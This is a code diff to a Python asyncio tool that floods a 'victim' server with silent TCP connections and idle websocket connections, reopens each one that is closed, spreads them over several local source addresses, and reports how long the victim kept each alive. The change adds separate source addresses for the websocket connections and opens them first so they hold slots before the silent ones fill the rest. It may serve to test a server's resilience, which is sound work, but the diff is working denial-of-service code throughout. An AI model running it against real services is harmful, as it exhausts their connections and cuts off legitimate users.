@@ -5,8 +5,10 @@ TCP connections to the victim open at once that never send a byte, and
 ``--upgraded`` websocket connections that answer pings but never say hello;
 each one the victim closes is opened again (``--again`` seconds later) until
 ``--seconds`` have passed. ``--sources`` spreads them over several local
-addresses. Prints ``{"flooding": ...}`` once the first wave is open, then one
-JSON line with what was opened and how long the victim let each one live.
+addresses (``--upgraded-sources`` the upgrades). The upgrades go first, so
+that some of them are let in before the silent ones fill every place.
+Prints ``{"flooding": ...}`` once the first wave is open, then one JSON line
+with what was opened and how long the victim let each one live.
 """
 
 from __future__ import annotations
@@ -64,14 +66,16 @@ class Flood:
     seconds: float
     again: float
     sources: Sequence[str]
+    upgraded_sources: Sequence[str] = ()
     silent: Tally = field(default_factory=Tally)
     upgraded: Tally = field(default_factory=Tally)
     now_open: int = 0
     peak_open: int = 0
     end: float = 0.0
 
-    def _source(self, i: int) -> str | None:
-        return self.sources[i % len(self.sources)] if self.sources else None
+    def _source(self, i: int, upgraded: bool = False) -> str | None:
+        sources = self.upgraded_sources if upgraded and self.upgraded_sources else self.sources
+        return sources[i % len(sources)] if sources else None
 
     def _opened(self, tally: Tally) -> None:
         tally.opened += 1
@@ -117,7 +121,7 @@ class Flood:
     async def upgraded_slot(self, i: int) -> None:
         uri = f"ws://{self.host}:{self.port}/sync"
         while time.monotonic() < self.end:
-            source = self._source(i)
+            source = self._source(i, upgraded=True)
             try:
                 ws = await connect(uri, proxy=None, compression=None, open_timeout=5,
                                    local_addr=(source, 0) if source else None)
@@ -144,8 +148,11 @@ class Flood:
     async def run(self, silent: int, upgraded: int) -> dict[str, Any]:
         start = time.monotonic()
         self.end = start + self.seconds
-        tasks = [asyncio.create_task(self.silent_slot(i)) for i in range(silent)]
-        tasks += [asyncio.create_task(self.upgraded_slot(i)) for i in range(upgraded)]
+        tasks = [asyncio.create_task(self.upgraded_slot(i)) for i in range(upgraded)]
+        while (upgraded and self.upgraded.opened + self.upgraded.reset + self.upgraded.failed
+               < upgraded and time.monotonic() < start + 2.0):
+            await asyncio.sleep(0.02)
+        tasks += [asyncio.create_task(self.silent_slot(i)) for i in range(silent)]
         # The first wave: every slot has had its first connect answered (or not).
         while (self.silent.opened + self.silent.reset + self.silent.failed < silent
                and time.monotonic() < self.end):
@@ -167,6 +174,7 @@ def main(argv: Sequence[str] | None = None) -> dict[str, Any]:
     p.add_argument("--again", type=float, default=0.5,
                    help="seconds before a closed connection's slot connects again")
     p.add_argument("--sources", default="", help="local addresses to connect from, a,b,c")
+    p.add_argument("--upgraded-sources", default="", help="the same, for the upgrades")
     args = p.parse_args(argv)
     # The attacker's own descriptors: one per connection, and some to spare.
     _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
@@ -176,7 +184,8 @@ def main(argv: Sequence[str] | None = None) -> dict[str, Any]:
     else:
         resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
     flood = Flood(args.host, args.port, args.seconds, args.again,
-                  [s for s in args.sources.split(",") if s])
+                  [s for s in args.sources.split(",") if s],
+                  [s for s in args.upgraded_sources.split(",") if s])
     return asyncio.run(flood.run(args.silent, args.upgraded))
 
 
